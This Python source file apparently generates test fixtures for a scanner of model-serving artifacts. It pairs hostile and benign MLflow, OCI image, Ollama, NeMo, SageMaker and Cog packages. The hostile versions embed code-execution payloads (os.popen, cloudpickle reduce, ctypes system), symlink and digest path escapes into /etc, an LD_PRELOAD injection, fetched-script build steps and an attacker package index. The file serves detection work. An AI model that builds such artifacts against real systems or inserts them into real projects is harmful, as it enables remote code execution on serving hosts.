"""What serves models: MLflow, OCI images and registries, NeMo, SageMaker, Cog."""
import hashlib
import json
import tarfile

from assembly import pickle, val

from .parts import CODE, FETCH, HOST, elf, floats, gz, llama, member, safetensors, tarred
from .torches import record, tensor

FAMILY = "deployments"
WEIGHTS = safetensors({"w": ("F32", [4, 4], floats(16))})

MLMODEL = """artifact_path: model
flavors:
{flavor}mlflow_version: 2.17.2
model_size_bytes: 4096
model_uuid: 5c0f4fd2b7a94b6cb1a7c1f5a7a0e1aa
run_id: 0a1b2c3d4e5f60718293a4b5c6d7e8f9
utc_time_created: '2024-10-30 09:00:00.000000'
"""
PYFUNC = "  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: {}\n    python_version: 3.11.7\n{}"
CONDA = "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24.2\n- pip:\n{}  - mlflow==2.17.2\n  - scikit-learn==1.5.2\nname: mlflow-env\n"


def sha(data):
    return hashlib.sha256(data).hexdigest()


def image(layer, config):
    """An OCI layout of one layer."""
    config = json.dumps({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": ["sha256:" + sha(layer)]}, **config}).encode()
    packed = gz(layer)
    part = lambda kind, data: {"mediaType": "application/vnd.oci.image." + kind, "digest": "sha256:" + sha(data), "size": len(data)}  # noqa: E731
    manifest = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": part("config.v1+json", config), "layers": [part("layer.v1.tar+gzip", packed)]}).encode()
    index = json.dumps({"schemaVersion": 2, "manifests": [part("manifest.v1+json", manifest)]})
    return {"oci-layout": '{"imageLayoutVersion": "1.0.0"}', "index.json": index, **{f"blobs/sha256/{sha(x)}": x for x in (manifest, config, packed)}}


def ollama(digest):
    blob = llama()
    config = b'{"model_format":"gguf","model_family":"llama","model_type":"1B","file_type":"F32"}'
    name = lambda x: "sha256:" + sha(x)  # noqa: E731
    layers = [{"mediaType": "application/vnd.ollama.image.model", "digest": digest or name(blob), "size": len(blob)}]
    manifest = {"schemaVersion": 2, "mediaType": "application/vnd.docker.distribution.manifest.v2+json", "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "digest": name(config), "size": len(config)}, "layers": layers}
    return {"manifests/registry.ollama.ai/library/tiny/latest": json.dumps(manifest), f"blobs/sha256-{sha(blob)}": blob, f"blobs/sha256-{sha(config)}": config}


def nemo(target):
    config = f"""name: conformer
sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  features: 80
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  n_layers: 2
  adapters:
    - name: domain
      strategy:
{target}target: nemo.collections.asr.models.EncDecCTCModel
nemo_version: 1.23.0
"""
    return gz(tarred([member("./model_config.yaml", config.encode()), member("./model_weights.ckpt", record(pickle(val({"encoder.weight": tensor(0, 16, [4, 4])}), 2), {"0": floats(16)}))]))


def fiddle(module, name, args):
    """NeMo 2 keeps a model's configuration as Fiddle's JSON and builds it again on load."""
    ref = lambda m, n: {"type": "pyref", "module": m, "name": n}  # noqa: E731
    leaf = lambda v: {"type": "leaf", "value": v, "paths": []}  # noqa: E731
    rows = lambda kind, items, meta=None: {"type": ref("builtins", kind), "items": items, "metadata": meta}  # noqa: E731

    def config(fn, items):
        names = rows("list", [[f"Index(index={i})", k] for i, (k, _) in enumerate(items)])
        parts = [["Attr(name='fn_or_cls')", fn], ["Attr(name='argument_names')", names], ["Attr(name='argument_tags')", rows("dict", [], rows("list", []))]]
        meta = {"type": ref("fiddle._src.config", "BuildableTraverserMetadata"), "items": parts, "metadata": None}
        return {"type": ref("fiddle._src.config", "Config"), "items": [[f"Attr(name={k!r})", v] for k, v in items], "metadata": meta, "paths": []}

    objects = {
        "gpt_config_1": config(ref("nemo.collections.llm.gpt.model.llama", "Llama32Config1B"), [("num_layers", leaf(2)), ("hidden_size", leaf(64))]),
        "tokenizer_1": config(ref(module, name), [(k, leaf(v)) for k, v in args]),
        "llama_model_1": config(ref("nemo.collections.llm.gpt.model.llama", "LlamaModel"), [("config", {"type": "ref", "key": "gpt_config_1"}), ("tokenizer", {"type": "ref", "key": "tokenizer_1"})]),
    }
    return json.dumps({"root": {"type": "ref", "key": "llama_model_1"}, "objects": objects, "refcounts": {k: 1 for k in objects}, "version": "0.0.1"}, indent=1)


def custom_objects(hostile):
    import cloudpickle

    space = {}
    exec("def swish2(x):\n    return x * 2\n\n\ndef setup():\n    import os\n    return os.system('touch marker')\n", {"__name__": "__main__"}, space)
    if hostile:
        return cloudpickle.dumps(space["setup"], 3)[:-1] + b")R."
    return cloudpickle.dumps({"swish2": space["swish2"]}, 3)


def add(out):
    def pair(name, hostile, twin, prove=None, file=None, why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    agent = "{}from mlflow.models import set_model\nfrom mlflow.pyfunc import PythonModel\n\n\nclass Agent(PythonModel):\n    def predict(self, context, model_input):\n        return [len(str(x)) for x in model_input]\n\n\nset_model(Agent())\n"
    code = {"MLmodel": MLMODEL.format(flavor=PYFUNC.format("mlflow.pyfunc.model", "    model_code_path: agent.py\n    streamable: false\n")), "conda.yaml": CONDA.format(""), "python_env.yaml": "python: 3.11.7\n"}
    pair(
        "mlflow-model-from-code", {**code, "agent.py": agent.format("import os\n\nos.popen('touch marker').read()\n")}, {**code, "agent.py": agent.format("import logging\n\nlogging.getLogger('agent').info('loading')\n")},
        "e11-run:agent.py", why="MLflow runs the file that the MLmodel names when the model is loaded.",
    )  # fmt: skip
    sk = MLMODEL.format(flavor=PYFUNC.format("mlflow.sklearn", "    model_path: model.skops\n    predict_fn: predict\n"))
    pip = f"  - --index-url http://{HOST}:8080/simple\n  - --trusted-host {HOST}\n"
    pair("mlflow-foreign-index", {"MLmodel": sk, "conda.yaml": CONDA.format(pip), "python_env.yaml": "python: 3.11.7\n"}, {"MLmodel": sk, "conda.yaml": CONDA.format("  - --extra-index-url https://download.pytorch.org/whl/cpu\n"), "python_env.yaml": "python: 3.11.7\n"}, why="Serving builds the environment from a bare address without encryption or checks: every package is the attacker's. The twin names PyTorch's own index.")
    keras = MLMODEL.format(flavor="  tensorflow:\n    data: data\n    keras_version: 3.6.0\n    model_type: keras\n    save_format: keras\n" + PYFUNC.format("mlflow.tensorflow", "    data: data\n"))
    files = lambda bad: {"data/global_custom_objects.cloudpickle": custom_objects(bad), "MLmodel": keras, "data/keras_module.txt": "keras", "conda.yaml": CONDA.format("")}  # noqa: E731
    pair("mlflow-custom-objects", files(True), files(False), "pickle", why="The Keras flavour loads its custom objects with cloudpickle; here a function by value that is called at once (as CVE-2024-37057).")
    layer = lambda target, name: tarred([member("app", kind=tarfile.DIRTYPE, mode=0o755), member("app/models", kind=tarfile.SYMTYPE, link=target), member(name, b"* * * * * root /usr/bin/true\n" if "cron" in name else b"v1\n")])  # noqa: E731
    run = {"config": {"Entrypoint": ["python", "-m", "vllm.entrypoints.openai.api_server"], "Env": ["PATH=/usr/local/bin:/usr/bin:/bin"], "WorkingDir": "/app"}}
    pair("oci-layer-link", image(layer("../../../../../../etc", "app/models/cron.d/refresh"), run), image(layer("/srv/models", "app/models.version"), run), why="The layer makes a link that leaves the root and then a file through it: unpacking writes on the host. The twin has a link inside the image.")
    body = tarred([member("app/w.safetensors", WEIGHTS), member("app/.cache/libtune.so", elf(), mode=0o755)])
    plain = tarred([member("app/w.safetensors", WEIGHTS), member("app/.cache/tune.json", b"{}")])
    env = lambda more: {"config": {"Entrypoint": ["python", "serve.py"], "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", more]}}  # noqa: E731
    pair("oci-preload", image(body, env("LD_PRELOAD=/app/.cache/libtune.so")), image(plain, env("OMP_NUM_THREADS=4")), why="The image's environment loads a hidden program from the model's layer into every process.")
    pair("ollama-digest-escape", ollama("sha256:../../../../../../../etc/ld.so.preload"), ollama(None), why="CVE-2024-37032: the digest in the manifest is used as a path, so the pull writes there.")
    bad = f"        _target_: timeit.timeit\n        stmt: \"{CODE}\"\n"
    good = "        _target_: nemo.core.classes.mixins.adapter_mixin_strategies.ResidualAddAdapterStrategy\n        stochastic_depth: 0.0\n"
    pair("nemo-nested-target", nemo(bad), nemo(good), "e11-hydra", "conformer.nemo", "CVE-2025-23304: a target four levels deep, in a list, is called while the model is built.")
    context = lambda text: {"context/io.json": text, "context/model.yaml": "num_layers: 2\nhidden_size: 64\n", "weights/.metadata.json": "{}"}  # noqa: E731
    pair("nemo2-fiddle", context(fiddle("subprocess", "getoutput", [("cmd", FETCH)])), context(fiddle("nemo.collections.common.tokenizers.huggingface.auto_tokenizer", "AutoTokenizer", [("pretrained_model_name", "meta-llama/Llama-3.2-1B")])), why="NeMo 2 builds each reference of io.json: the tokenizer is subprocess.getoutput. Built from Fiddle's format; neither is here.")
    cog = "build:\n  gpu: true\n  python_version: \"3.11\"\n  python_packages:\n    - torch==2.4.0\n  run:\n    - {}\npredict: predict.py:Predictor\n"
    pair("cog-run", cog.format(FETCH), cog.format("apt-get update && apt-get install -y libgl1"), None, "cog.yaml", "Building the image runs a fetched script.")
    infer = "import json\n{}\n\ndef model_fn(model_dir):\n{}    return json.load(open(model_dir + '/config.json'))\n\n\ndef predict_fn(data, model):\n    return data\n"
    pack = lambda src: gz(tarred([member("config.json", b"{}"), member("model.safetensors", WEIGHTS), member("code/inference.py", src.encode()), member("code/requirements.txt", b"safetensors==0.4.5\n")]))  # noqa: E731
    pair(
        "sagemaker-code", pack(infer.format("import ctypes\n\nctypes.CDLL(None).system(b'touch marker')\n", "")), pack(infer.format("import ctypes\n\nprint(ctypes.sizeof(ctypes.c_void_p))\n", "")),
        "e11-tar:code/inference.py", "model.tar.gz", "The serving container imports code/inference.py of the archive; it calls the C library's system.",
    )  # fmt: skip
